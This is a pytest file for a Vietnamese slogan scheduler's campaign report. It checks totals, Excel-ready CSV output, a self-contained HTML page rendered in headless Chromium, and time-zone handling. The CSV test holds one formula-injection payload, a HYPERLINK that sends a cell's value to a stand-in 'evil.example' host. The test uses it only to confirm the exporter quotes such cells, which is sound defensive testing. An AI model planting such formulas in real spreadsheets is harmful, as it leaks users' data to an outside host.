"""The campaign report: totals, CSV for Excel, a self-contained HTML page checked in a real browser."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from click.testing import CliRunner
from PIL import Image

from scheduler.cli import cli
from scheduler.ledger import Ledger
from scheduler.project import Project, load_project
from scheduler.reports.campaign import build_report
from scheduler.reports.text import CampaignReport

TZ = ZoneInfo("Asia/Ho_Chi_Minh")


def at(day: int, hour: int) -> dt.datetime:
    return dt.datetime(2021, 10, day, hour, 0, tzinfo=TZ)


def seed(project_dir: Path) -> Path:
    """Two channels over three days: posts with readings, a failure, a miss, an unknown."""
    config = project_dir / "config.yaml"
    config.write_text(
        config.read_text(encoding="utf-8")
        + '  - name: zalo-hand\n    type: outbox\n    directory: outbox2\n    schedule: {times: ["19:30"]}\n',
        encoding="utf-8",
    )
    database = load_project(config, {}).config.database
    with Ledger.open(database) as ledger:
        for day, hour, channel, slogan, status, reach in [
            (1, 8, "outbox", "dan-van-kheo", "posted", 120),
            (1, 19, "zalo-hand", "dang-quang-vinh", "posted", 40),
            (2, 8, "outbox", "dang-quang-vinh", "posted", 300),
            (2, 19, "zalo-hand", "dan-van-kheo", "failed", None),
            (3, 8, "outbox", "dan-van-kheo", "posted", 75),
            (3, 19, "zalo-hand", "dang-quang-vinh", "unknown", None),
        ]:
            slot = at(day, hour)
            row = ledger.claim(channel, slot, slogan, "h" * 64, "c", slot)
            assert row is not None
            if status == "posted":
                assert reach is not None
                ledger.mark_posted(row.id, f"{channel}-{day}", slot)
                ledger.add_reading(row.id, slot + dt.timedelta(hours=1), {"reach": reach // 2, "views": reach})
                ledger.add_reading(row.id, slot + dt.timedelta(hours=24), {"reach": reach, "views": 2 * reach})
            elif status == "failed":
                ledger.mark_failed(row.id, "Facebook từ chối mã truy cập", slot)
            else:
                ledger.mark_unknown(row.id, "hãy kiểm tra trên kênh", slot)
        ledger.mark_missed("outbox", at(4, 8), "dan-van-kheo", "máy chủ không chạy", at(4, 9))
    return config


def report_for(config: Path) -> CampaignReport:
    project: Project = load_project(config, {})
    with Ledger.open(project.config.database) as ledger:
        return build_report(project, ledger, dt.date(2021, 10, 1), dt.date(2021, 10, 4), at(5, 0))


def test_totals_per_channel_and_slogan_use_the_latest_reading(project_dir: Path) -> None:
    report = report_for(seed(project_dir))
    totals = report.totals
    assert (totals.planned, totals.posted, totals.failed, totals.missed, totals.unknown) == (7, 4, 1, 1, 1)
    assert totals.reach == 120 + 40 + 300 + 75
    outbox = report.by_channel["outbox"]
    assert (outbox.posted, outbox.missed, outbox.reach) == (3, 1, 495)
    assert [slogan for slogan, _ in report.best()] == ["dang-quang-vinh", "dan-van-kheo"]
    assert report.reach_per_day() == [
        (dt.date(2021, 10, 1), 160),
        (dt.date(2021, 10, 2), 300),
        (dt.date(2021, 10, 3), 75),
        (dt.date(2021, 10, 4), 0),
    ]


def test_slots_still_to_come_in_the_period_count_as_planned(project_dir: Path) -> None:
    config = seed(project_dir)
    project = load_project(config, {})
    with Ledger.open(project.config.database) as ledger:
        report = build_report(project, ledger, dt.date(2021, 10, 1), dt.date(2021, 10, 6), at(5, 0))
    # 10/5 and 10/6: outbox at 08:00 and 19:30, zalo-hand at 19:30, each day (inside the plan period)
    assert report.totals.planned == 7 + 6
    assert report.totals.posted == 4


def test_text_report_through_the_cli_defaults_to_the_plan_period(project_dir: Path) -> None:
    config = seed(project_dir)
    result = CliRunner().invoke(cli, ["report", "-c", str(config)])
    assert result.exit_code == 0, result.output
    assert "Thời gian: 01/10/2021 - 31/10/2021" in result.stdout
    assert "Theo kênh" in result.stdout and "Lượt đăng không thành công" in result.stdout
    assert "Facebook từ chối mã truy cập" in result.stdout


def test_csv_opens_in_excel_and_matches_the_log(project_dir: Path, tmp_path: Path) -> None:
    config = seed(project_dir)
    target = tmp_path / "bao-cao.csv"
    assert CliRunner().invoke(cli, ["report", "--csv", str(target), "-c", str(config)]).exit_code == 0
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:4] == ["Giờ đăng", "Kênh", "Mã khẩu hiệu", "Nội dung"]
    log = json.loads(CliRunner().invoke(cli, ["log", "--json", "-c", str(config)]).stdout)
    assert len(rows) - 1 == len(log)
    reach_of = {(r["channel"], r["slot"]): r["reach"] for r in log}
    for row in rows[1:]:
        expected = reach_of[(row[1], row[0])]
        assert row[7] == ("" if expected is None else str(expected))


def test_csv_cells_that_excel_would_run_as_formulas_are_quoted(project_dir: Path, tmp_path: Path) -> None:
    slogans = project_dir / "slogans.yaml"
    bullet = "- Dân vận khéo thì việc gì cũng thành công!"
    slogans.write_text(
        slogans.read_text(encoding="utf-8").replace('"Dân vận khéo thì việc gì cũng thành công!"', f'"{bullet}"'),
        encoding="utf-8",
    )
    config = seed(project_dir)
    with Ledger.open(load_project(config, {}).config.database) as ledger:
        row = ledger.claim("outbox", at(9, 8), "dan-van-kheo", "h" * 64, "c", at(9, 8))
        assert row is not None
        ledger.mark_failed(row.id, '=HYPERLINK("http://evil.example/?"&A1,"bấm")', at(9, 8))
    target = tmp_path / "bao-cao.csv"
    assert CliRunner().invoke(cli, ["report", "--csv", str(target), "-c", str(config)]).exit_code == 0
    report_cells = [cell for row in csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))) for cell in row]
    logged = CliRunner().invoke(cli, ["log", "--csv", "-c", str(config)]).stdout
    assert logged.startswith("\ufeff")  # the same BOM as the report, so Excel reads the accents
    log_cells = [cell for row in csv.reader(io.StringIO(logged.removeprefix("\ufeff"))) for cell in row]
    for cells in (report_cells, log_cells):
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], cells
        assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert "'" + bullet in report_cells


def html_report(project_dir: Path, tmp_path: Path) -> Path:
    config = seed(project_dir)
    target = tmp_path / "bao-cao.html"
    result = CliRunner().invoke(cli, ["report", "--html", str(target), "-c", str(config)])
    assert result.exit_code == 0, result.output
    return target


def test_html_is_self_contained_and_carries_the_numbers(project_dir: Path, tmp_path: Path) -> None:
    page = html_report(project_dir, tmp_path).read_text(encoding="utf-8")
    assert not re.search(r"""(src|href)=["']?(https?:)?//""", page)  # nothing to fetch from a network
    assert page.count("data:image/jpeg;base64,") == 2  # the best slogans' card thumbnails
    assert 'data-total="reach">535<' in page and 'data-total="posted">4<' in page
    assert "Báo cáo kết quả đăng khẩu hiệu" in page and "Dân vận khéo thì việc gì cũng thành công!" in page
    assert "@page { size: A4" in page


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
HEADLESS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--hide-scrollbars",
]


def chromium(*args: str, tmp_path: Path) -> subprocess.CompletedProcess[str]:
    assert CHROMIUM is not None
    profile = tmp_path / "profile"
    command = [CHROMIUM, *HEADLESS, f"--user-data-dir={profile}", *args]
    return subprocess.run(
        command, capture_output=True, text=True, timeout=90, env={**os.environ, "HOME": str(tmp_path)}
    )


@pytest.mark.skipif(
    CHROMIUM is None and not os.environ.get("CI"), reason="Debian's chromium is not installed (.ci/run installs it)"
)
def test_the_page_renders_in_a_real_browser_with_its_images_and_vietnamese_text(
    project_dir: Path, tmp_path: Path
) -> None:
    page = html_report(project_dir, tmp_path)
    dom = chromium("--virtual-time-budget=5000", "--dump-dom", page.as_uri(), tmp_path=tmp_path)
    assert dom.returncode == 0, dom.stderr[-2000:]
    assert 'data-images-loaded="2/2"' in dom.stdout
    assert "Tiếp cận theo ngày" in dom.stdout and "Khẩu hiệu tiếp cận nhiều nhất" in dom.stdout
    shot = tmp_path / "page.png"
    done = chromium("--window-size=1000,1400", f"--screenshot={shot}", page.as_uri(), tmp_path=tmp_path)
    assert done.returncode == 0 and shot.exists(), done.stderr[-2000:]
    with Image.open(shot) as image:
        colours = image.convert("RGB").getcolors(maxcolors=1_000_000)
    assert colours is not None and len(colours) > 50  # text, the red chart and the thumbnails: not a blank page
    pdf = tmp_path / "page.pdf"
    printed = chromium("--no-pdf-header-footer", f"--print-to-pdf={pdf}", page.as_uri(), tmp_path=tmp_path)
    assert printed.returncode == 0 and pdf.read_bytes().startswith(b"%PDF")
    assert re.search(rb"/MediaBox \[0 0 59[45]\.?\d* 84[12]", pdf.read_bytes())  # A4: 595 x 842 points


def test_log_and_report_queries_use_indexes(tmp_path: Path) -> None:
    with Ledger.open(tmp_path / "db.sqlite") as ledger:
        conn = ledger._db.conn
        queries: list[tuple[str, list[object]]] = [
            ("SELECT * FROM posts WHERE slot_utc >= ? ORDER BY slot_utc DESC", ["2021"]),
            ("SELECT * FROM posts WHERE channel = ? AND slot_utc >= ?", ["a", "2021"]),
            ("SELECT * FROM posts WHERE status = ?", ["failed"]),
            ("SELECT id FROM readings WHERE post_id = ? ORDER BY taken_at DESC LIMIT 1", [1]),
        ]
        for sql, params in queries:
            plan = " ".join(row[-1] for row in conn.execute(f"EXPLAIN QUERY PLAN {sql}", params))
            assert "USING" in plan and "SCAN posts" not in plan.replace("USING INDEX", ""), (sql, plan)


def test_log_does_not_import_pillow_or_apscheduler(project_dir: Path) -> None:
    code = (
        "import sys\n"
        "from scheduler.cli import cli\n"
        "try:\n"
        f"    cli(['log', '-c', {str(project_dir / 'config.yaml')!r}])\n"
        "except SystemExit:\n"
        "    pass\n"
        "heavy = sorted(m for m in sys.modules if m.split('.')[0] in ('PIL', 'apscheduler', 'requests', 'argon2', 'flask', 'waitress'))\n"
        "print('HEAVY', heavy)\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert "HEAVY []" in done.stdout, done.stdout


def test_log_json_written_by_sqlite_equals_the_records_in_the_config_zone(tmp_path: Path) -> None:
    import json as json_module

    from scheduler.reports.log import log_json, log_record

    tz = ZoneInfo("Asia/Ho_Chi_Minh")
    local_slot = dt.datetime(2021, 10, 15, 8, 0, tzinfo=tz)
    utc_slot = dt.datetime(2021, 10, 15, 2, 0, tzinfo=dt.UTC)  # stored under another zone: must be re-zoned
    with Ledger.open(tmp_path / "danvan.db") as ledger:
        first = ledger.claim("fb", local_slot, "dan-van", "h" * 64, "c", local_slot)
        second = ledger.claim("zalo", utc_slot, "khéo", "h" * 64, "c", utc_slot)
        assert first is not None and second is not None
        ledger.mark_posted(first.id, "123_456", local_slot.astimezone(dt.UTC) + dt.timedelta(seconds=3))
        ledger.add_reading(first.id, local_slot + dt.timedelta(hours=1), {"reach": 42})
        ledger.mark_failed(second.id, 'lỗi "mạng"\n<0>\x1b', utc_slot)
        text = log_json(ledger.log_json_rows(), tz)
        records = [log_record(line, tz) for line in ledger.log_lines()]
    assert json_module.loads(text) == records
    assert [r["slot"] for r in records] == ["2021-10-15T09:00:00+07:00", "2021-10-15T08:00:00+07:00"]
    assert records[1]["posted_at"] == "2021-10-15T08:00:03+07:00" and records[1]["reach"] == 42
    assert text.count("\n") == len(records) + 1  # one post per line
    assert log_json([], tz) == "[]"


def test_log_times_are_in_the_config_zone_with_the_offset_also_across_dst() -> None:
    from zoneinfo import ZoneInfo

    from scheduler.reports.log import local_iso

    berlin = ZoneInfo("Europe/Berlin")
    assert local_iso("2021-03-28T00:30:00+00:00", berlin) == "2021-03-28T01:30:00+01:00"
    assert local_iso("2021-03-28T01:30:00+00:00", berlin) == "2021-03-28T03:30:00+02:00"
    assert local_iso("2021-03-28T03:30:00+02:00", berlin) == "2021-03-28T03:30:00+02:00"
    assert local_iso("2021-10-31T02:30:00+01:00", berlin) == "2021-10-31T02:30:00+01:00"
    assert local_iso("2021-10-31T00:30:00+00:00", berlin) == "2021-10-31T02:30:00+02:00"
    assert local_iso("2021-10-15T08:00:00.250000+07:00", ZoneInfo("UTC")) == "2021-10-15T01:00:00.250000+00:00"
